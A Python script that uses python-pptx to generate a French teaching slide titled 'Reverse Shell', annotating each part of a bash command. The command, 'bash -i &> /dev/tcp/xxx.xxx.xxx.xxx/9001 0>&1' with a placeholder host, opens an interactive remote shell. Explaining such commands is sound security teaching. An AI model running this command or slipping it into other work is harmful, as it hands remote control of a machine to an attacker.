
import pptx
import pptx.dml.color
import pptx.enum.shapes
import pptx.enum.text
import pptx.oxml.ns
import pptx.oxml.xmlchemy
import pptx.util

EMU_PER_PX = 9144  # 100 px to the inch
BLACK = pptx.dml.color.RGBColor(0x00, 0x00, 0x00)
WHITE = pptx.dml.color.RGBColor(0xFF, 0xFF, 0xFF)
BLUE = pptx.dml.color.RGBColor(0x44, 0x72, 0xC4)
BODY_FONT = "Calibri"
CODE_FONT = "Courier New"
TOP_SIDE = 0

# Note text, its box (left, top, width, height), arrow start and arrow tip.
# Without a start, the arrow leaves from the middle of the box's top side.
NOTES = [
    ("Redirige les sorties (stdout et stderr) vers l’adresse IP "
     "xxx.xxx.xxx.xxx sur le port 9001",
     (199, 579, 353, 131), None, (449, 375)),
    ("Le descripteur 0 (stdin) est dupliqué vers le descripteur 1 (stdout)",
     (787, 562, 353, 101), (964, 544), (1082, 354)),
    ("Le shell est interactif",
     (22, 471, 247, 40), None, (221, 368)),
]


def px(length):
    return pptx.util.Emu(length * EMU_PER_PX)


def add_element(parent, tag, **attributes):
    element = pptx.oxml.xmlchemy.OxmlElement(tag)
    for name, value in attributes.items():
        element.set(name, value)
    parent.append(element)


def add_text_box(slide, box, anchor=pptx.enum.text.MSO_ANCHOR.TOP):
    shape = slide.shapes.add_textbox(*map(px, box))
    shape.text_frame.word_wrap = True
    shape.text_frame.vertical_anchor = anchor
    return shape


def write(paragraph, text, size, font=BODY_FONT, bold=False, spacing=1.0, before=0):
    paragraph.text = text
    paragraph.line_spacing = spacing
    paragraph.space_before = pptx.util.Pt(before)
    for run in paragraph.runs:
        run.font.name = font
        run.font.size = pptx.util.Pt(size)
        run.font.bold = bold
        run.font.color.rgb = BLACK


def add_bullet(paragraph, indent):
    properties = paragraph._p.get_or_add_pPr()
    properties.set("marL", str(int(px(indent))))
    properties.set("indent", str(-int(px(indent))))
    add_element(properties, "a:buFont", typeface="Arial")
    add_element(properties, "a:buChar", char="•")


def add_arrow(slide, start, tip):
    connector = slide.shapes.add_connector(
        pptx.enum.shapes.MSO_CONNECTOR.STRAIGHT, *map(px, start + tip))
    connector.line.color.rgb = BLUE
    connector.line.width = pptx.util.Pt(0.5)
    properties = connector._element.find(pptx.oxml.ns.qn("p:spPr"))
    add_element(properties.find(pptx.oxml.ns.qn("a:ln")), "a:tailEnd", type="triangle")
    add_element(properties, "a:effectLst")
    return connector


def add_note(slide, text, box, start, tip):
    shape = add_text_box(slide, box)
    write(shape.text_frame.paragraphs[0], text, 18)
    left, top, width, _ = box
    connector = add_arrow(slide, start or (left + width // 2, top), tip)
    if start is None:
        connector.begin_connect(shape, TOP_SIDE)


def main():
    presentation = pptx.Presentation()
    presentation.slide_width = px(1333)
    presentation.slide_height = px(750)
    slide = presentation.slides.add_slide(presentation.slide_layouts[6])
    slide.background.fill.solid()
    slide.background.fill.fore_color.rgb = WHITE

    # Title
    title = add_text_box(slide, (92, 40, 1150, 145), pptx.enum.text.MSO_ANCHOR.MIDDLE)
    write(title.text_frame.paragraphs[0], "Reverse Shell", 44, spacing=0.9)

    # Heading and command
    body = add_text_box(slide, (92, 200, 1150, 476))
    heading = body.text_frame.paragraphs[0]
    write(heading, "Explication", 28, bold=True, spacing=0.9, before=10)
    add_bullet(heading, 25)
    command = body.text_frame.add_paragraph()
    write(command, "bash -i &> /dev/tcp/xxx.xxx.xxx.xxx/9001 0>&1", 28,
          font=CODE_FONT, spacing=0.9, before=51)

    # Notes with arrows to the parts of the command
    for note in NOTES:
        add_note(slide, *note)

    presentation.save("out.pptx")


if __name__ == "__main__":
    main()
